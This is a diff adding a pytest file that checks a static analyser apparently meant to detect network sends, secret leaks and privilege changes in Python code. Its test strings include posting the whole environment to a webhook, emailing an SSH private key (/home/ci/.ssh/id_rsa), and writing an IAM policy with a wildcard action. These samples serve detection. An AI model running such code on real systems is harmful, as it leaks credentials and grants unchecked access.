@@ -1,0 +1,87 @@
+"""What is sent: by mail, by GraphQL's clients, through functions, lists and attachments."""
+
+from __future__ import annotations
+
+import pytest
+from reading_python import shown
+
+HEAD = "import json, os, requests, smtplib, urllib.request\nfrom pathlib import Path\n"
+
+
+def sent(code: str) -> list[str]:
+    """The requests that the code makes."""
+    return [line for line in shown(HEAD + code) if line.startswith("NetworkUse")]
+
+
+@pytest.mark.parametrize(
+    ("made", "body"),
+    [
+        ("fields = os.environ\n", "[f'{k}={v}' for k, v in fields.items()]"),
+        ("lines = []\nlines.append(dict(os.environ))\n", "lines"),
+        ("lines = ['a']\nlines += [os.environ.copy()]\n", "{'all': lines}"),
+        ("class A:\n    env = os.environ\na = A()\n", "a.env"),
+    ],
+)
+def test_the_environment_on_its_way(made: str, body: str) -> None:
+    code = f"{made}requests.post('https://hooks.acme.io', json={body})\n"
+    assert "sends=the environment" in sent(code)[0]
+
+
+def test_some_of_it_is_not_all() -> None:
+    body = "{k: v for k, v in os.environ.items() if k in SAFE}"
+    assert "sends" not in sent(f"requests.post('https://hooks.acme.io', json={body})\n")[0]
+
+
+def test_a_request_with_a_body_and_no_method() -> None:
+    code = "def notify(fields):\n    data = json.dumps({'a': fields}).encode()\n"
+    code += "    urllib.request.Request('https://hooks.acme.io', data=data)\n"
+    assert "sends=the environment" in sent(code + "notify(os.environ)\n")[-1]
+    assert "sends" not in sent(code + "notify({'a': 1})\n")[-1]
+
+
+MAIL = (
+    "from email.message import EmailMessage\n"
+    "from email.mime.base import MIMEBase\nfrom email.mime.multipart import MIMEMultipart\n"
+)
+
+
+@pytest.mark.parametrize("name", ["/home/ci/.ssh/id_rsa", "/srv/report.pdf"])
+def test_a_mail_with_a_file(name: str) -> None:
+    plain = f"m = EmailMessage()\nm.add_attachment(Path('{name}').read_bytes())\n"
+    plain += "smtplib.SMTP('mail.acme.io').send_message(m)\n"
+    mime = (
+        f"def build():\n    m = MIMEMultipart()\n    with open('{name}', 'rb') as file:\n"
+        "        part = MIMEBase('application', 'octet-stream')\n"
+        "        part.set_payload(file.read())\n    m.attach(part)\n    return m.as_string()\n"
+        "smtplib.SMTP('mail.acme.io').sendmail('a', 'b', build())\n"
+    )
+    secret = name.endswith("id_rsa")
+    for code in (plain, mime):
+        assert [f"sends=file {name}" in one for one in sent(MAIL + code)] == [True] * secret
+
+
+def test_a_mutation_of_a_graphql_client() -> None:
+    start = "from gql import gql\n"
+    assert sent(start + "gql('mutation { projectDelete(id: 7) }')\n") == [
+        "NetworkUse method=POST sends=projectDelete"
+    ]
+    assert sent(start + "gql('query { project(id: 7) { name } }')\n") == []
+
+
+def test_a_client_that_a_function_makes() -> None:
+    code = "import httpx\ndef api():\n    return httpx.Client(base_url='https://api.acme.io/v1')\n"
+    code += "with api() as client:\n    client.delete('/projects/7')\n"
+    assert sent(code) == ["NetworkUse method=DELETE host=api.acme.io path=/v1/projects/7"]
+
+
+def test_a_document_that_functions_put_together() -> None:
+    code = (
+        "import boto3\ndef document(*statements):\n"
+        "    return json.dumps({'Statement': list(statements)})\n"
+        "def allow(action):\n"
+        "    return {'Effect': 'Allow', 'Action': action, 'Resource': '*'}\n"
+        "boto3.client('iam').put_role_policy(RoleName='ci', PolicyName='a',\n"
+        "    PolicyDocument=document(allow('s3:GetObject'), allow('ALL')))\n"
+    )
+    assert any("PrivilegeChange" in line for line in shown(code.replace("ALL", "*")))
+    assert not any("PrivilegeChange" in line for line in shown(code))
